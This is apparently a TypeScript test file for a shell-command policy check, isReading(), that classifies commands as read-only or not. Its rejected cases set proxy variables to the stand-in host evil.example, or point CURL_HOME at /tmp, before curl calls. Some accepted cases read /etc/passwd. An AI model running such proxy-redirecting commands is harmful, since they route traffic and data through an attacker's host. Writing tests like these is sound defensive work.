// Variables that a shell hands on to what it starts: with them a program that only reads asks somebody else, or does something else.
import assert from "node:assert/strict";
import { isReading } from "../../src/policy/is_reading.ts";
import { action } from "../fakes/records.ts";

const reads = (cmd: string): boolean => isReading(action({ module: "shell", params: { cmd } }));

Deno.test("isReading() holds export, readonly and local to what may be set before a program, and read to no proxy", () => {
  for (
    const cmd of [
      "export http_proxy=evil.example; curl http://db1/",
      "export ALL_PROXY=evil.example; curl http://db1/",
      "export LANG=C all_proxy=evil.example; curl http://db1/",
      "export CURL_HOME=/tmp; curl http://db1/",
      "export CURL_HOME; curl http://db1/",
      "readonly https_proxy=evil.example; curl http://db1/",
      "f() { local http_proxy=evil.example; curl http://db1/; }; f",
      "read -r line http_proxy < /tmp/x; curl http://db1/",
      "getopts x http_proxy; curl http://db1/",
      "set -ea; read CURL_HOME < /tmp/x; curl http://db1/",
    ]
  ) {
    assert.equal(reads(cmd), false, cmd);
  }
  for (
    const cmd of [
      "export LC_ALL=C; sort /etc/passwd",
      "export x=1; echo $x",
      "export -p",
      "readonly name=x; echo $name",
      "while read -r LINE; do echo $LINE; done < /etc/passwd",
      "set -e; cat /etc/passwd",
    ]
  ) {
    assert.equal(reads(cmd), true, cmd);
  }
});
